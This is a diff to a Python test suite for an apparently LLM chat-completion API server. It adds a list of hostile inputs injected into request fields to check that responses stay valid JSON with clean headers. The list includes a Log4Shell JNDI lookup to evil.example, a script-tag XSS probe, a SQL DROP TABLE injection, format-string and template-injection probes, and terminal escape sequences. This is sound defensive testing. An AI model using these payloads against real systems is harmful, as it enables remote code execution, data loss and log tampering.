@@ -514,7 +514,49 @@ def odd() -> Iterator[Attack]:
             yield Attack(f"{name} {form}", chat(filled(template)), want, form)
 
 
-ATTACKS = [*depths(), *growing(), *heavy(), *names(), *odd()]
+# What would do something to who reads it in a log, as it stands in JSON.
+NASTY = [
+    '\\n{\\"status\\":200}', "\\r\\nINJECTED", "\\u001b[31m", "\\u001b]0;title\\u0007", "\\u0008\\u0008",
+    "\\u0000", "\\u007f", "\\u009b31m", "\\u2028", "\\u202e", "\\ud800", "%n%s%x",
+    "${jndi:ldap://evil.example/x}", "<script>alert(1)</script>", '\\" , \\"status\\": 200, \\"x\\": \\"',
+    "%REQ(AUTHORIZATION)%", "{{7*7}}", "';DROP TABLE x;--",
+]  # fmt: skip
+SHOWN = {
+    "a model": '{"model": "a/VALUE", "messages": [{"role": "user", "content": "Hi"}]}',
+    "a model that nobody has": '{"model": "VALUE", "messages": [{"role": "user", "content": "Hi"}]}',
+    "a role": '{"model": "MODEL", "messages": [{"role": "VALUE", "content": "Hi"}]}',
+    "a type of part": '{"model": "MODEL", "messages": [{"role": "user", "content": [{"type": "VALUE"}]}]}',
+    "a member": ONE.replace("VALUE", '"VALUE": 1'),
+    "an effort": ONE.replace("VALUE", '"reasoning_effort": "VALUE"'),
+    "a choice": ONE.replace("VALUE", '"tool_choice": "VALUE"'),
+    "a tool": ONE.replace("VALUE", '"tools": [{"type": "function", "function": {"name": "VALUE"}}]'),
+    "a kind of tool": ONE.replace("VALUE", '"tools": [{"type": "VALUE"}]'),
+    "a format": ONE.replace("VALUE", '"response_format": {"type": "VALUE"}'),
+    "a user": ONE.replace("VALUE", '"user": "VALUE"'),
+    "a text": '{"model": "MODEL", "messages": [{"role": "user", "content": "VALUE"}]}',
+    "an image": '{"model": "MODEL", "messages": [{"role": "user", "content":'
+    ' [{"type": "image_url", "image_url": {"url": "VALUE"}}]}]}',
+    "an id": '{"model": "MODEL", "messages": [{"role": "tool", "tool_call_id": "VALUE", "content": "x"}]}',
+}
+
+
+def nasty() -> Iterator[Attack]:
+    for number, text in enumerate(NASTY):
+        for name, template in SHOWN.items():
+            for form in ("a", "c", "d2"):
+                body = filled(template, text)
+                yield Attack(f"{number} as {name} {form}", chat(body), _says_so_or_serves, form)
+
+
+def _says_so_or_serves(outcome) -> None:
+    """What it says is no matter here, but it says it in JSON, and in headers without anything odd."""
+    answer = outcome.answer
+    assert answer and answer.status in (200, 400, 404), answer
+    assert isinstance(answer.json(), dict)
+    assert all(value.isprintable() and value.isascii() for value in answer.headers.values()), answer.headers
+
+
+ATTACKS = [*depths(), *growing(), *heavy(), *names(), *odd(), *nasty()]
 
 
 # === the tests ===
